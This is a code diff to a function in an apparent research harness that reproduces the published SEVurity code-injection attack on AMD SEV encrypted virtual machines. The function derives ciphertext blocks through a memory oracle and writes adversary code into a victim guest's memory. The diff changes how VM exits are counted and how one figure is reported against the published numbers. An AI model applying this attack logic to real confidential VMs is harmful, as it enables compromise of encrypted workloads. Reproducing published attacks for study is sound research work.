@@ -93,8 +93,8 @@ def code_injection(hands: Hands, facts: Facts, log: Log) -> bytes:
     )
     code = assemble(PAYLOAD, routine + BLOCK)
     code += bytes(-len(code) % BLOCK)
-    exits = 0
     hands.victim.until(CPUID)
+    before = hands.victim.exits
     for at in range(0, len(code), BLOCK):
         target, oracle = (
             behind + at,
@@ -105,7 +105,6 @@ def code_injection(hands: Hands, facts: Facts, log: Log) -> bytes:
             hands.emulation[name] = word
         hands.victim.skip(2)
         hands.victim.until(CPUID)  # without the jump there is no second CPUID
-        exits += 1
         hands.caches.write_back()
         cells = xor(hands.memory.read(oracle, BLOCK), difference(oracle, target))
         log.step(f"block {at // BLOCK}: ciphertext of the adversary's code for its place", cells)
@@ -114,6 +113,7 @@ def code_injection(hands: Hands, facts: Facts, log: Log) -> bytes:
             first = cells
             hands.memory.write(target, corpus.ciphertext_for(found, target))  # the loop is still wanted
         hands.caches.write_back()
+    exits = hands.victim.exits - before
     hands.memory.write(behind, first)
     hands.caches.write_back()
     hands.victim.skip(2)
@@ -128,11 +128,12 @@ def code_injection(hands: Hands, facts: Facts, log: Log) -> bytes:
         source="SEVurity §V-B (attacks.md A10 step 6)",
     )
     log.figure(
-        "chosen bytes in a block that is only moved",
-        2,
+        "bytes that can be chosen in a block that is only moved",
+        corpus.chosen_bytes(),
         "bytes",
         published="2, expected limit 3",
         source="SEVurity §IV-C (attacks.md A10)",
+        difference="more than half of all values can be had at one address",
     )
     return loot
 
